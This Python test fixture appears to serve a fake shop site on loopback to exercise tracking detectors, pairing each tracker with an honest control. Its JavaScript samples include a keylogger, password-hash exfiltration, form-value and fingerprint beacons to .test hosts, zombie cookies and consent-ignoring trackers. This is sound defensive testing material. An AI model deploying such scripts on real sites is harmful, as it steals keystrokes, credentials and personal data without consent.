"""A site on loopback with one page for each detector, and beside each trick somebody who does nearly the same honestly.

Hosts of the honest ones begin with ``honest``: no detector may name one, but that none of them waits for consent except
``honest-tags.test``. Everything is invented but the names behind the aliases, which must be in the tables to be known;
nothing is sent to them, the browser is sealed.
"""

from __future__ import annotations

import ssl
import uuid
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path

import trustme
from aiohttp import web

from undertow.capture.seal import HostMap

APP = "shop.test"
OTHERS = (
    "keys.test", "honest-check.test", "phoenix.test", "ashes.test", "honest-counter.test", "etag.test",
    "honest-static.test", "ads.test", "partner.test", "honest-pixel.test", "eager.test", "deaf.test",
    "honest-tags.test", "hash.test", "keeper.test", "honest-draft.test", "prints.test", "collect.eulerian.net",
    "honest.cloudfront.net",
)  # fmt: skip
ALIASES = {"metrics.shop.test": "collect.eulerian.net", "static.shop.test": "honest.cloudfront.net"}
PAGES = ("keys", "login", "find", "stored", "stored-later", "joined")
"""Those that the visit fills in, after ``/`` with its banner and ``/kept``; the last thing is to come back to that."""

EMAIL = "<form action=/in method=post><label>E-mail <input type=email name=email></label><button>Go</button></form>"
PASSWORD = """<form action={action} method={method}><label>E-mail <input type=email name=email></label>
<label>Password <input type=password name=password></label><button>Sign in</button></form>"""
BANNER = """<div id=banner style="position:fixed;bottom:0">This site uses cookies.
<button onclick="banner.remove(); document.cookie = 'consent=yes'; tags()">Accept all</button>
<button onclick="banner.remove(); document.cookie = 'consent=no; domain=shop.test'">Reject all</button></div>
<script>const tags = () => { const s = document.createElement('script'); s.src = 'https://honest-tags.test/t.js';
document.head.append(s); };</script>"""

_ID = "crypto.randomUUID().replaceAll('-', '')"
SCRIPTS = {
    "keys.test": """addEventListener("keydown", e => navigator.sendBeacon("https://keys.test/k", "k=" + e.code));""",
    "honest-check.test": """let timer; addEventListener("input", e => { clearTimeout(timer);
        timer = setTimeout(() => fetch("/valid", {method: "POST", body: "ok"}), 300); });""",
    "phoenix.test": f"""(async () => {{
        const open = indexedDB.open("p", 1);
        open.onupgradeneeded = () => open.result.createObjectStore("s");
        await new Promise(done => open.onsuccess = done);
        const store = () => open.result.transaction("s", "readwrite").objectStore("s");
        const had = store().get("id"); await new Promise(done => had.onsuccess = done);
        const id = document.cookie.match(/phx=(\\w+)/)?.[1] ?? had.result ?? {_ID};
        store().put(id, "id"); document.cookie = "phx=" + id + "; max-age=99999";
        navigator.sendBeacon("https://phoenix.test/b", "id=" + id); }})();""",
    "ashes.test": f"""(async () => {{ const kept = await caches.open("a"), had = await kept.match("/id");
        const id = document.cookie.match(/ash=(\\w+)/)?.[1] ?? (had ? await had.text() : {_ID});
        await kept.put("/id", new Response(id)); document.cookie = "ash=" + id + "; max-age=99999";
        navigator.sendBeacon("https://ashes.test/b", "id=" + id); }})();""",
    "honest-counter.test": f"""if (!document.cookie.includes("cnt=")) document.cookie = "cnt=" + {_ID};""",
    "etag.test": "/* the same for all */",
    "honest-static.test": "/* also the same for all */",
    "eager.test": f"""const mine = {_ID}; document.cookie = "eager=" + mine;
        fetch("https://eager.test/v?id=" + mine);""",
    "deaf.test": f"""if (document.cookie.includes("consent=no")) {{ const mine = {_ID};
        document.cookie = "deaf=" + mine; fetch("https://deaf.test/v?id=" + mine); }}""",
    "honest-tags.test": f"""document.cookie = "tag=" + {_ID};""",
    "hash.test": """document.querySelector("form").addEventListener("submit", async e => { e.preventDefault();
        const value = new TextEncoder().encode(document.querySelector("[type=password]").value);
        const digest = new Uint8Array(await crypto.subtle.digest("SHA-256", value));
        await fetch("https://hash.test/h", {method: "POST", body: digest.reduce((s, b) => s +
            b.toString(16).padStart(2, "0"), "")}); e.target.submit(); });""",
    "keeper.test": """const kept = localStorage.getItem("draft");
        if (kept && location.pathname === "/stored-later") fetch("https://keeper.test/k?v=" + encodeURIComponent(kept));
        addEventListener("change", e => localStorage.setItem("draft", e.target.value));""",
    "honest-draft.test": """const draft = sessionStorage.getItem("mine");
        addEventListener("change", e => sessionStorage.setItem("mine", e.target.value));""",
    "prints.test": f"""const visitor = {_ID};
        const send = what => fetch("https://prints.test/p", {{method: "POST",
            body: JSON.stringify({{visitor, what}})}});
        send({{agent: navigator.userAgent, version: navigator.appVersion, platform: navigator.platform,
               languages: navigator.languages.join(), zone: Intl.DateTimeFormat().resolvedOptions().timeZone}});
        addEventListener("change", e => send({{mail: e.target.value}}));""",
    "metrics.shop.test": """fetch("https://metrics.shop.test/c", {credentials: "include"});""",
    "static.shop.test": "/* pictures and the like */",
}


def _load(*hosts: str) -> str:
    return "".join(f"<script src=https://{host}/s.js></script>" for host in hosts)


def _pixel(host: str) -> str:
    return f"<img src=https://{host}/pixel>"


PAGE: dict[str, str] = {
    "/": f"{BANNER}{_load('eager.test', 'deaf.test')}<a href=/kept>more</a>",
    "/after": _load("deaf.test"),
    "/kept": _load("phoenix.test", "ashes.test", "honest-counter.test", "etag.test", "honest-static.test", *ALIASES)
    + _pixel("ads.test") + _pixel("honest-pixel.test"),
    "/keys": EMAIL + _load("keys.test", "honest-check.test"),
    "/login": PASSWORD.format(action="/in", method="post") + _load("hash.test"),
    "/find": PASSWORD.format(action="/found", method="get"),
    "/stored": EMAIL + _load("keeper.test", "honest-draft.test"),
    "/stored-later": _load("keeper.test", "honest-draft.test"),
    "/joined": EMAIL + _load("prints.test"),
}  # fmt: skip


async def _answer(request: web.Request) -> web.StreamResponse:
    host = request.host.partition(":")[0]
    headers = {"access-control-allow-origin": "*", "cache-control": "no-cache"}
    if request.path == "/s.js":
        return _script(host, request, headers)
    if request.path == "/pixel":
        return _pixel_answer(host, request)
    if host == APP and request.path in PAGE:
        text = f"<!doctype html><meta charset=utf-8><title>Shop</title><body>{PAGE[request.path]}"
        return web.Response(text=text, content_type="text/html")
    return web.Response(text="ok", headers=headers)


def _script(host: str, request: web.Request, headers: dict[str, str]) -> web.Response:
    tags = {"etag.test": f'"{uuid.uuid4().hex}"', "honest-static.test": '"5d41402abc4b2a76b9719d911017c592"'}
    if host in tags:
        back = request.headers.get("if-none-match")
        headers |= {"etag": back or tags[host]}
        if back:
            return web.Response(status=304, headers=headers)
    return web.Response(text=SCRIPTS[host], content_type="text/javascript", headers=headers)


def _pixel_answer(host: str, request: web.Request) -> web.Response:
    """A picture that sets a cookie; one of them is handed on to a partner with the cookie in the address."""
    mine = request.cookies.get("uid") or uuid.uuid4().hex
    where = {"ads.test": f"https://partner.test/pixel?from=ads&them={mine}", "honest-pixel.test": f"/seen?u={mine}"}
    headers = {"set-cookie": f"uid={mine}; SameSite=None; Secure; Path=/"}
    if host in where:
        return web.Response(status=302, headers=headers | {"location": where[host]})
    return web.Response(text="", content_type="image/gif", headers=headers)


@asynccontextmanager
async def serve(folder: Path) -> AsyncIterator[tuple[tuple[HostMap, ...], bytes]]:
    """Serve all hosts with TLS; the maps, and the authority that vouches for them (PEM)."""
    authority = trustme.CA()
    hosts = (APP, *OTHERS, *ALIASES)
    chain = folder / "chain.pem"
    leaf = authority.issue_cert(*hosts)
    chain.write_bytes(leaf.private_key_and_cert_chain_pem.bytes() + authority.cert_pem.bytes())
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(chain)
    app = web.Application()
    app.router.add_route("*", "/{path:.*}", _answer)
    runner = web.AppRunner(app, shutdown_timeout=0.1)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0, ssl_context=context).start()
    port = runner.addresses[0][1]
    texts = [f"{host}=127.0.0.1:{port}" for host in (APP, *OTHERS)]
    try:
        aliases = [f"{host}={name}" for host, name in ALIASES.items()]
        yield HostMap.parse_all([*texts, *aliases]), authority.cert_pem.bytes()
    finally:
        await runner.cleanup()
